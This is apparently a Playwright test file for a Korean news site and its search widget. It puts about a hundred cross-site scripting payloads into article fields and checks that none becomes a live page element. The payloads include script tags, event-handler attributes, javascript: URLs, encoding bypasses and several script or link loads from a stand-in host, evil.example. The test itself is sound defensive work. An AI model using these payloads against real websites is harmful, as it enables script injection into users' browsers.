"""Scripts as they are smuggled into texts, names and queries, and what none of them may become."""

from __future__ import annotations

from playwright.sync_api import Page, expect

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>눌러</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<style>@import 'javascript:alert(1)'</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<mark onclick=alert(1)>트램</mark>",
    "<mark><script>alert(1)</script></mark>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7 * 7 }}{% for x in range(9) %}",
    "${alert(1)}`${alert(1)}`",
    "<p hx-get=/paste hx-trigger=load hx-on::load=alert(1)>",
    "javascript:alert(1)",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img srcset=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>눌러</text></a></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>눌러</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p onclick=alert(1)>눌러</p>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<p contenteditable onblur=alert(1) autofocus>",
    "<p popover id=x onbeforetoggle=alert(1)><button popovertarget=x>",
    "<dialog open onclose=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)>",
    "<a href='data:text/html,<script>alert(1)</script>'>눌러</a>",
    "<a href=java&#9;script:alert(1)>눌러</a>",
    "<a href='&#x6a;avascript:alert(1)'>눌러</a>",
    "<a href=vbscript:msgbox(1)>눌러</a>",
    "<link rel=import href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x>",
    "<gisa-search endpoint=//evil.example></gisa-search>",
    "</mark><script>alert(1)</script><mark>",
    "&lt;/mark&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "');alert(1);//",
    '");alert(1);//',
    "{{constructor.constructor('alert(1)')()}}",
    "<!--><img src=x onerror=alert(1)>-->",
]
ELEMENTS = (
    "script:not([src^='/assets/']), iframe, object, embed, base, meta[http-equiv], style:not(head > :first-of-type), "
    "video, math, audio, marquee, dialog, template, frameset, plaintext, xmp, image, link:not([href^='/']), img, "
    "[onerror], [onload], [onfocus], [onclick], [onmouseover], [ontoggle], [onbegin], [onstart], [onblur], [onclose], "
    "[onanimationstart], [onbeforetoggle], [hx-get], [formaction], [popover], [contenteditable], "
    "[href^='javascript:' i], [href^='data:' i], [href^='vbscript:' i]"
)


def article(number: int, payload: str) -> dict[str, object]:
    """Return an article with the payload wherever a text can be."""
    return {
        "id": f"payload-{number}",
        "title": f"트램 {payload}",
        "subtitle": f"부제 트램 {payload}",
        "body": f'가온시는 트램을 놓는다. {payload} 트램\n\n도윤석 국장은 "트램 {payload}"라고 말했다.',
        "outlet": payload,
        "section": payload,
        "reporters": [{"name": payload, "role": payload}],
        "captions": [{"text": f"트램 {payload}", "credit": payload}],
        "subheads": [payload],
        "tags": [payload],
        "published_at": "2026-11-01T09:00:00Z",
    }


def clean(page: Page) -> bool:
    """Return whether no payload has become an element of the page."""
    return page.locator(ELEMENTS).count() == 0


WIDGET = '<gisa-search query="트램" group="none" size="100"></gisa-search>'
_ASK = """async ([query, outlet]) => {
  const widget = document.querySelector("gisa-search");
  const settled = new Promise((told) => {
    for (const name of ["gisa-results", "gisa-error"]) widget.addEventListener(name, () => told(), { once: true });
  });
  widget.setAttribute("query", query);
  widget.setAttribute("filters", new URLSearchParams({ outlet }).toString());
  await settled;
}"""


def clean_widget(page: Page) -> bool:
    """Return whether no payload becomes an element of a widget that lists them all and is asked for each of them."""
    widget = page.locator("gisa-search")
    expect(widget.locator("li")).to_have_count(len(PAYLOADS))
    outlets = {" ".join(name.split()) for name in widget.locator(".outlet").all_inner_texts()}
    assert outlets == {" ".join(payload.split()) for payload in PAYLOADS}
    found = [widget.locator(ELEMENTS).count()]
    for payload in PAYLOADS:
        page.evaluate(_ASK, [payload, payload])
        found.append(widget.locator(ELEMENTS).count())
    return not any(found)
